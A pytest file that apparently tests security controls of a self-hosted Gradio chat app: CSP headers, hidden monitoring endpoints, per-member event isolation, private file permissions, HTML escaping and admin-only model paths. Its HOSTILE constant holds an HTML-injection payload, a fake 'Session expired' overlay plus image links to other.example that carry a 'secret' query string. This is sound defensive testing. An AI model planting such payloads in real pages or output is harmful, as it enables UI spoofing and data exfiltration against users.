"""The web edge's leaks closed, through the real app on a loopback port (household of Ann, admin,
and Bob, member; FakeBackend; real SQLite file): security headers and the CSP on every response,
Gradio monitoring, /health for outsiders, another member's Gradio event id, file permissions, raw
HTML in chat text, and the admin-only model folder listing."""

from __future__ import annotations

import os
import stat
from pathlib import Path
from types import SimpleNamespace

import httpx
import pytest
from conftest import serve, sign_in
from fakes import FAST_HASHER, FakeBackend
from gradio_client import Client

from localchat.core import ChatService
from localchat.hardware import Hardware
from localchat.household import SESSION_COOKIE, Household
from localchat.store import Store
from localchat.ui.admin import AdminPanel
from localchat.ui.downloads import Downloads

PRESETS = Path(__file__).resolve().parent.parent / "presets"
HOSTILE = (
    '<div style="position:fixed;inset:0">Session expired</div> <img src="http://other.example/a.png"> '
    "![x](http://other.example/?q=secret)"
)


@pytest.fixture(scope="module")
def app(tmp_path_factory):
    served = serve(tmp_path_factory.mktemp("edge"), members={"Ann": "admin", "Bob": "member"})
    yield served
    served.stop()


def cookies(app, name: str) -> dict[str, str]:
    return {SESSION_COOKIE: sign_in(app.url, name)}


def as_member(household: Household, name: str) -> SimpleNamespace:
    """A gr.Request stand-in as Gradio builds it after web.auth_dependency resolved the session."""
    return SimpleNamespace(session_hash=f"{name}-tab", username=str(household.store.member_by_name(name).id))


def test_every_response_carries_a_strict_content_security_policy(app) -> None:
    ann = cookies(app, "Ann")
    for path, jar in (("/login", None), ("/", ann), ("/config", ann), ("/gradio_api/info", None), ("/health", None)):
        r = httpx.get(app.url + path, cookies=jar, headers={"Accept": "text/html"})
        csp = r.headers.get("content-security-policy", "")
        for directive in (
            "default-src 'self'",
            "img-src 'self' data: blob:",
            "form-action 'self'",
            "frame-ancestors 'self'",
            "connect-src 'self'",
            "object-src 'none'",
            "base-uri 'self'",
        ):
            assert directive in csp, (path, directive)
        assert r.headers["x-content-type-options"] == "nosniff" and r.headers["referrer-policy"] == "same-origin"
        assert r.headers["x-frame-options"] == "SAMEORIGIN", path


def test_gradio_monitoring_is_off_for_members(app) -> None:
    bob = cookies(app, "Bob")
    for path in ("/monitoring/summary", "/monitoring", "/gradio_api/monitoring/summary"):
        r = httpx.get(app.url + path, cookies=bob)
        assert r.status_code in (403, 404), (path, r.status_code, r.text[:200])
        assert "Gradio" not in r.text and "{" not in r.text


def test_health_tells_an_outsider_only_that_the_server_is_up(app, tmp_path: Path) -> None:
    assert httpx.get(app.url + "/health").json() == {"status": "ok"}
    signed_in = httpx.get(app.url + "/health", cookies=cookies(app, "Bob")).json()
    assert signed_in["status"] == "ok" and "model" in signed_in and "loading" in signed_in
    single = serve(tmp_path, listen=False)  # loopback single-user mode keeps the details
    try:
        assert "model" in httpx.get(single.url + "/health").json()
    finally:
        single.stop()


def test_a_member_cannot_read_or_cancel_another_members_gradio_event(app) -> None:
    ann, bob = cookies(app, "Ann"), cookies(app, "Bob")
    issued = httpx.post(app.url + "/gradio_api/call/stop", json={"data": []}, cookies=ann)
    assert issued.status_code == 200, issued.text
    event_id = issued.json()["event_id"]
    stolen = httpx.get(app.url + f"/gradio_api/call/stop/{event_id}", cookies=bob)
    assert stolen.status_code == 403 and "event:" not in stolen.text
    cancel = {"session_hash": "bob-own-tab", "fn_index": 0, "event_id": event_id}
    assert httpx.post(app.url + "/gradio_api/cancel", json=cancel, cookies=bob).status_code == 403
    own = httpx.get(app.url + f"/gradio_api/call/stop/{event_id}", cookies=ann, timeout=30)
    assert own.status_code == 200 and "event: complete" in own.text
    join = {"data": [], "fn_index": 0, "session_hash": "ann-tab-7", "event_data": None, "trigger_id": None}
    joined = httpx.post(app.url + "/gradio_api/queue/join", json=join, cookies=ann)
    cancel["event_id"] = joined.json()["event_id"]
    assert httpx.post(app.url + "/gradio_api/cancel", json=cancel, cookies=bob).status_code == 403


def test_the_data_dir_and_database_are_private_even_when_they_existed(tmp_path: Path) -> None:
    data = tmp_path / "data"
    data.mkdir(mode=0o755)
    os.chmod(data, 0o755)
    Store(data / "localchat.db").close()
    for name in ("localchat.db", "localchat.db-wal", "localchat.db-shm"):
        if (data / name).exists():
            os.chmod(data / name, 0o644)
    served = serve(data, members={"Ann": "admin"})
    try:
        sign_in(served.url, "Ann")  # a write: the -wal and -shm exist now
        assert stat.S_IMODE(data.stat().st_mode) == 0o700
        written = [p for p in data.iterdir() if p.name.startswith("localchat.db")]
        assert {p.name for p in written} >= {"localchat.db", "localchat.db-wal"}
        for path in written:
            assert stat.S_IMODE(path.stat().st_mode) == 0o600, path.name
    finally:
        served.stop()


def test_html_in_a_message_comes_back_as_text_not_markup(app) -> None:
    bob = Client(app.url, verbose=False, headers={"Cookie": f"{SESSION_COOKIE}={sign_in(app.url, 'Bob')}"})
    result = bob.predict(HOSTILE, api_name="/add_user")
    chat = next(v for v in result if isinstance(v, list))  # the Chatbot's value among the outputs
    shown = chat[-1]["content"]
    shown = shown if isinstance(shown, str) else "".join(p.get("text", "") for p in shown)
    assert "<div" not in shown and "<img" not in shown and "![" not in shown
    assert "&lt;div" in shown and "http://other.example/?q=secret" in shown


def test_the_admins_reader_shows_chat_html_as_text(tmp_path: Path) -> None:
    household = Household(Store(tmp_path / "localchat.db"), listen=True, hasher=FAST_HASHER)
    ann, bob = household.add_member("Ann", "ann-password", "admin"), household.add_member("Bob", "bob-password")
    chat = household.store.create_conversation(bob.id, '<img src="http://other.example/t.png">')
    household.store.put_message(bob.id, chat, 0, "user", HOSTILE)
    household.store.put_message(bob.id, chat, 1, "assistant", "```\n<b>code</b>", "<i>2 tokens</i>")
    household.set_admins_read_chats(ann, True)
    shown = AdminPanel(household, ChatService(FakeBackend(), PRESETS)).read("Bob", as_member(household, "Ann"))
    assert "<img" not in shown and "<div" not in shown and "<i>" not in shown and "![" not in shown
    assert "```\n<b>code</b>\n```" in shown  # code stays code (Markdown escapes it), closed before the stats


def test_only_admins_see_the_downloaded_models_and_where_they_are(tmp_path: Path) -> None:
    household = Household(Store(tmp_path / "localchat.db"), listen=True, hasher=FAST_HASHER)
    household.add_member("Ann", "ann-password", "admin")
    household.add_member("Bob", "bob-password")
    (tmp_path / "models" / "secret-model").mkdir(parents=True)
    downloads = Downloads(household, tmp_path / "models", lambda: Hardware("cpu", 2, 2**33, 2**32))
    text, _ = downloads.downloaded(as_member(household, "Bob"))
    assert "secret-model" not in text and "free" not in text
    text, _ = downloads.downloaded(as_member(household, "Ann"))
    assert "secret-model" in text


def test_a_members_page_carries_no_model_paths_and_no_machine_details(tmp_path: Path) -> None:
    """The page's config goes to everyone who opens it: where models live on the server (and the
    machine's description) reach an admin's page only when it loads, checked on the server."""
    secret = "/srv/household-models/Qwen2.5-7B-Instruct"
    served = serve(tmp_path, backend=FakeBackend(models=[secret]), members={"Ann": "admin", "Bob": "member"})
    try:
        page = httpx.get(served.url + "/config", cookies=cookies(served, "Bob"))
        assert page.status_code == 200 and secret not in page.text
        ui = served.app.ui
        bob, ann = as_member(served.app.household, "Bob"), as_member(served.app.household, "Ann")
        picker, machine = ui.models.on_load(bob)
        assert picker.choices == [] and machine == ""
        assert ui.models.picker(bob).choices == []
        picker, machine = ui.models.on_load(ann)
        assert [value for _, value in picker.choices] == [secret] and "Fake CPU" in machine
    finally:
        served.stop()
